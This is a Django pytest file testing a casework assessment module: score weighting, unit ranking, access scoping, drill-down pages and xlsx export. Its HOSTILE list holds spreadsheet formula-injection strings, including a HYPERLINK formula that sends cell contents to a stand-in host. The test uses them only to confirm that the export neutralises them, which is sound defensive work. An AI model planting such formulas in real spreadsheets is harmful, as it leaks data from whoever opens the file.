"""Annual score and ranking with changed weights, drill-down pages, xlsx export (C19), articles."""

from datetime import date
from io import BytesIO

from django.urls import reverse
from openpyxl import load_workbook
import pytest

from assessment.facts import Period
from assessment.models import AssessmentWeights, KnowledgeArticle
from assessment.selectors import Ratio, assessment_annual, assessment_score
from assessment.services import assessment_weights_set, topics_suggest
from casework import services
from tests.test_assessment_metrics import step, t

MARCH = Period.days(date(2026, 3, 1), date(2026, 3, 31))
HOSTILE = ['=1+1', '@SUM(1,1)', '+1+1', '-1+1', '=HYPERLINK("http://example.invalid/?"&A1,"详情")', "\t=1+1"]


@pytest.fixture
def two_units(bureau):
    """A: one dispatch signed on time, one returned. B: two dispatches signed late."""
    b = bureau

    def dispatched(unit, when, **fields):
        case = step(when, b.register, **fields)
        return step(when, services.case_dispatch, case=case, acting_user=b.dispatcher, unit=unit)

    a1 = dispatched(b.unit_a, t(3, 2), subject=HOSTILE[0])
    step(t(3, 2, 11), services.case_accept, case=a1, acting_user=b.handler_a)
    a2 = dispatched(b.unit_a, t(3, 2), subject=HOSTILE[4])
    a2 = step(t(3, 2, 12), services.case_return_to_office, case=a2, acting_user=b.handler_a, reason="非本单位")
    a2 = step(t(3, 3), services.case_dispatch, case=a2, acting_user=b.dispatcher, unit=b.unit_b)
    step(t(3, 9), services.case_accept, case=a2, acting_user=b.handler_b)
    b1 = dispatched(b.unit_b, t(3, 2), subject="+8613800138000 咨询")
    step(t(3, 9), services.case_accept, case=b1, acting_user=b.handler_b)
    return {"a1": a1, "a2": a2, "b1": b1}


def weights(**kw):
    base = {name: 0 for name in ("sign_for_on_time", "handled_on_time", "return_rate", "send_back_rate",
                                 "satisfaction", "per_supervision_notice", "per_referral", "per_extension")}
    base.update(kw)
    return AssessmentWeights(**base)


def test_score_is_the_weighted_mean_of_rates_minus_deductions():
    values = {"sign_for_on_time": Ratio(3, 4), "return_rate": Ratio(1, 4), "satisfaction": Ratio(0, 0),
              "supervision_notices": 2}
    w = weights(sign_for_on_time=20, return_rate=10, satisfaction=50, per_supervision_notice=1)
    # (20·0.75 + 10·(1 − 0.25)) / 30 · 100 = 75; satisfaction has nothing due; minus 2 notices × 1.
    assert assessment_score(values=values, weights=w) == 73.0


def test_ranking_follows_the_weights(bureau, two_units):
    by_sign_for = assessment_annual(period=MARCH, weights=weights(sign_for_on_time=1))
    assert [(r.unit.code, r.score, r.rank) for r in by_sign_for] == [("yuhu", 100.0, 1), ("yuetang", 0.0, 2)]
    by_returns = assessment_annual(period=MARCH, weights=weights(return_rate=1))
    assert [(r.unit.code, r.score, r.rank) for r in by_returns] == [("yuetang", 100.0, 1), ("yuhu", 50.0, 2)]


def test_equal_scores_share_a_rank(bureau, two_units):
    # Nobody fed back by the reply deadline (5 and 6 March): both units score 0 and share rank 1.
    rows = assessment_annual(period=MARCH, weights=weights(handled_on_time=1))
    assert sorted((r.unit.code, r.score, r.rank) for r in rows) == [("yuetang", 0.0, 1), ("yuhu", 0.0, 1)]


def test_only_superusers_change_weights(bureau):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        assessment_weights_set(acting_user=bureau.leader, sign_for_on_time=1)
    bureau.leader.is_superuser = True
    row = assessment_weights_set(acting_user=bureau.leader, sign_for_on_time=1)
    assert AssessmentWeights.objects.order_by("-updated_at", "-id").first() == row


def test_report_page_ranks_units_for_a_leader_and_only_his_unit_for_a_handler(client, bureau, two_units):
    url = reverse("assessment:report") + "?start=2026-03-01&end=2026-03-31"
    client.force_login(bureau.leader)
    page = client.get(url).content.decode()
    assert "雨湖分局" in page and "岳塘分局" in page
    client.force_login(bureau.handler_a)
    page = client.get(url).content.decode()
    assert "雨湖分局" in page and "岳塘分局" not in page


def test_drill_down_lists_the_cases_behind_a_number_within_the_users_scope(client, bureau, two_units):
    base = reverse("assessment:report_cases") + "?start=2026-03-01&end=2026-03-31&metric=return_rate"
    client.force_login(bureau.leader)
    page = client.get(f"{base}&part=num&unit={bureau.unit_a.pk}").content.decode()
    assert two_units["a2"].reference in page and two_units["a1"].reference not in page
    page = client.get(f"{base}&part=den&unit={bureau.unit_a.pk}").content.decode()
    assert two_units["a1"].reference in page
    client.force_login(bureau.handler_b)
    page = client.get(f"{base}&part=den&unit={bureau.unit_a.pk}").content.decode()
    assert two_units["a1"].reference not in page


def test_xlsx_export_keeps_formula_looking_citizen_text_as_text(client, bureau, two_units):
    for i, text in enumerate(HOSTILE[1:4] + HOSTILE[5:], start=1):
        case = step(t(3, 4), bureau.register, subject=text, external_id=f"H{i}")
        step(t(3, 4), services.case_dispatch, case=case, acting_user=bureau.dispatcher, unit=bureau.unit_a)
    client.force_login(bureau.leader)
    response = client.get(reverse("assessment:report_export") +
                          f"?start=2026-03-01&end=2026-03-31&metric=return_rate&part=den&unit={bureau.unit_a.pk}")
    assert response.status_code == 200
    wb = load_workbook(BytesIO(response.content))
    ranking = wb["年度考核"]
    assert {ranking.cell(row=r, column=2).value for r in (5, 6)} == {"雨湖分局", "岳塘分局"}
    sheet = wb["案件明细"]
    subjects = {sheet.cell(row=r, column=3).value: sheet.cell(row=r, column=3).data_type
                for r in range(2, sheet.max_row + 1)}
    from casework.models import Case

    stored = list(Case.objects.filter(lead_unit=bureau.unit_a).values_list("subject", flat=True))
    assert {"=1+1", "@SUM(1,1)", "+1+1", "-1+1"} <= set(stored)
    for text in stored:
        assert subjects.get(text) == "s", text
    refs = [sheet.cell(row=r, column=1) for r in range(2, sheet.max_row + 1)]
    assert all(c.data_type == "s" and isinstance(c.value, str) for c in refs)


def test_articles_for_a_case_come_from_its_topic_and_keywords_and_respect_scope(client, bureau, two_units):
    article = KnowledgeArticle.objects.create(title="户口迁入", body="所需材料:……", keywords="户口 迁入")
    url = reverse("assessment:articles_for_case", args=[two_units["b1"].pk])
    client.force_login(bureau.handler_a)
    assert client.get(url).status_code == 404
    client.force_login(bureau.handler_b)
    assert client.get(url).json()["articles"] == []
    case = bureau.case_in("dispatched", unit=bureau.unit_b, subject="户口迁入需要什么材料")
    data = client.get(reverse("assessment:articles_for_case", args=[case.pk])).json()
    assert [a["id"] for a in data["articles"]] == [article.pk]


def test_suggested_topics_group_similar_cases(bureau):
    for i, subject in enumerate(["丽发新城小区旁边建搅拌站噪音扰民", "丽发新城小区旁搅拌站噪音扰民严重",
                                 "郝家坪小学什么时候扩建", "郝家坪小学何时改扩建"]):
        bureau.register(subject=subject, body=subject, external_id=f"K{i}", citizen_name=f"u{i}")
    topics = topics_suggest()
    assert sorted(tp.message_count for tp in topics) == [2, 2]
    assert {tp.citizen_count for tp in topics} == {2}


@pytest.mark.parametrize("url_name", ["assessment:dashboard_data", "assessment:report"])
def test_dashboard_and_report_work_with_sql_logging_on(client, bureau, two_units, url_name):
    """With DEBUG (as in `make run`) Django logs each statement by formatting it with its parameters;
    a literal % in raw SQL must not break that (it did: the dashboard answered 500 on SQLite)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(bureau.leader)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse(url_name) + "?start=2026-03-01&end=2026-03-31")
    assert response.status_code == 200
    assert len(queries) > 0
